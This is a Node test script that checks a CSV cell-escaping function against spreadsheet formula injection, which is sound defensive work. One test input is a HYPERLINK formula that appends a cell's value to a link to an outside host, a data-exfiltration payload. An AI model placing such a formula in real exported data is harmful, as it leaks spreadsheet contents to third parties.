// The cells of the page's sheets (page/site/cells.js): cells.mjs MODULE, a copy of it whose name
// says that it is one. Run by tests/long/operate.sh under Node.
const {cell} = await import(process.argv[2]);

// What a spreadsheet takes for a formula has a quote before it; amounts and other texts stay.
const wanted = {
    '=1+1': "'=1+1", '+1': "'+1", '-1+1': "'-1+1", '@SUM(1)': "'@SUM(1)", '\t=1': "'\t=1", '=HYPERLINK("//x.io/"&F2,"inv")': `"'=HYPERLINK(""//x.io/""&F2,""inv"")"`,
    '-1.50': '-1.50', '-': '-', '1.00': '1.00', plain: 'plain', 'a,b': '"a,b"', 'a=b': 'a=b', '': '',
};
const wrong = Object.entries(wanted).filter(([text, made]) => cell(text) !== made);
for (const [text, made] of wrong) console.log(`${JSON.stringify(text)} gives ${JSON.stringify(cell(text))}, not ${JSON.stringify(made)}`);
process.exit(wrong.length ? 1 : 0);
